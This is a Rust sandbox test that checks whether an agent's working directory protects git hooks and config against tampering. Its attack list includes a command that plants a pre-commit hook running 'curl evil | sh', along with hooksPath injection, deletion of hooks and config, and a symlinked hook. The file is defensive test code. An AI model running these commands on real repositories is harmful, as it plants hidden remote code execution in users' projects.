//! Agent-sensitive paths of the working dir are read-only inside, and pinned in place.

use std::time::Duration;

use sandbox_core::ExecOptions;
use sandbox_e2e::{TestScope, run};

const T: Duration = Duration::from_secs(120);

fn git_layout(dir: &std::path::Path) {
    std::fs::create_dir_all(dir.join(".git/hooks")).unwrap();
    std::fs::write(dir.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(dir.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(dir.join("src")).unwrap();
}

#[test]
fn git_hooks_and_config_cannot_be_planted_from_inside() {
    let t = TestScope::new("protect");
    git_layout(t.dir.path());
    run(T, async {
        let s = t.sandbox.start(t.spec("protect")).await.unwrap();
        let r = s.start_report().unwrap();
        let real = std::fs::canonicalize(t.dir.path()).unwrap();
        assert_eq!(
            r.protected_paths,
            vec![format!("{}/.git/hooks", real.display()), format!("{}/.git/config", real.display())]
        );
        for attack in [
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            "printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config",
            "mv .git .git-old",
            "mv .git/hooks .git/hooks-old",
            "rm -rf .git/hooks",
            "rm -f .git/config",
            "ln -s /tmp/h .git/hooks/post-checkout",
        ] {
            let o = s.exec(&["sh", "-c", attack], ExecOptions::new()).await.unwrap();
            assert!(!o.success(), "{attack:?} succeeded: {}", o.stderr_lossy());
        }
        assert!(!t.dir.path().join(".git/hooks/pre-commit").exists());
        assert!(!std::fs::read_to_string(t.dir.path().join(".git/config")).unwrap().contains("hooksPath"));
        assert!(t.dir.path().join(".git/hooks").is_dir());
        // The rest of the working dir, and of .git, stays writable.
        let o = s
            .exec(
                &["sh", "-c", "echo fn main > src/main.rs && echo 'ref: refs/heads/x' > .git/HEAD"],
                ExecOptions::new(),
            )
            .await
            .unwrap();
        assert!(o.success(), "{}", o.stderr_lossy());
        assert_eq!(std::fs::read_to_string(t.dir.path().join("src/main.rs")).unwrap(), "fn main\n");
        s.stop().await.unwrap();

        // Turned off, the same write goes through.
        let s = t.sandbox.start(t.spec("unprotected").protect_workspace(false)).await.unwrap();
        assert!(s.start_report().unwrap().protected_paths.is_empty());
        let o = s.exec(&["sh", "-c", "echo ok > .git/hooks/pre-commit"], ExecOptions::new()).await.unwrap();
        assert!(o.success());
        s.stop().await.unwrap();
    });
}
